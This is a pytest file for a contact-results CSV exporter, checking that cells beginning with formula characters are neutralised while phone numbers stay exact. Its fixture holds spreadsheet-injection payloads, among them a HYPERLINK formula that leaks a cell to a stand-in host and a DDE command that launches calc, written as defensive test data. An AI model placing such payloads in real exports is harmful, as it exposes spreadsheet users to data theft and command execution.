"""Results export: CSV cells no spreadsheet runs as formulas, the phone column left exact."""

from __future__ import annotations

import csv
import io

import pytest

from controller.programs.export import contact_result, spreadsheet_safe, write_csv
from controller.programs.store import ContactRow

HOSTILE = {
    "firstName": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "lastName": "+1+cmd|' /C calc'!A0",
    "city": "-2+3",
    "email": "@SUM(1+1)",
    "customAttributes": {"note": "\t=1+1", "ref": "\r=1+1", "plain": "Casablanca"},
}


def row(**data: object) -> ContactRow:
    return ContactRow(
        id=1,
        program_id="p1",
        phone="+212600000001",
        data={"phone": "+212600000001", **data},
        timezone=None,
        line=2,
        status="done",
        attempts=1,
        outcome_counts={"completed": 1},
        next_at=0.0,
        disposition="completed",
        last_outcome="completed",
        last_result="=RESULT()",
        last_call_id="u1",
        last_variables={"customerResponse": "-1", "amount": 12, "items": ["=x"]},
        updated_at=0.0,
    )


def test_formula_cells_are_neutralised_and_the_phone_is_not() -> None:
    out = io.StringIO()
    write_csv([contact_result(row(**HOSTILE), [])], out)
    [cells] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert cells["phone"] == "+212600000001"  # E.164: exact, for tools matching numbers
    assert cells["firstName"] == "'" + HOSTILE["firstName"]
    assert cells["lastName"] == "'+1+cmd|' /C calc'!A0"
    assert cells["city"] == "'-2+3"
    assert cells["email"] == "'@SUM(1+1)"
    assert cells["attr.note"] == "'\t=1+1"
    assert cells["attr.ref"] == "'\r=1+1"
    assert cells["attr.plain"] == "Casablanca"
    assert cells["lastResult"] == "'=RESULT()"
    assert cells["var.customerResponse"] == "'-1"
    assert cells["var.amount"] == "12"  # a number is not text: as it is
    assert cells["var.items"] == '["=x"]'  # JSON text starts with [ : safe as it is
    for name, value in cells.items():
        assert name == "phone" or not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("value", "safe"),
    [("=1", "'=1"), ("ok", "ok"), ("", ""), (None, None), (-5, -5), ({"a": "=b"}, '{"a": "=b"}')],
)
def test_spreadsheet_safe(value: object, safe: object) -> None:
    assert spreadsheet_safe(value) == safe
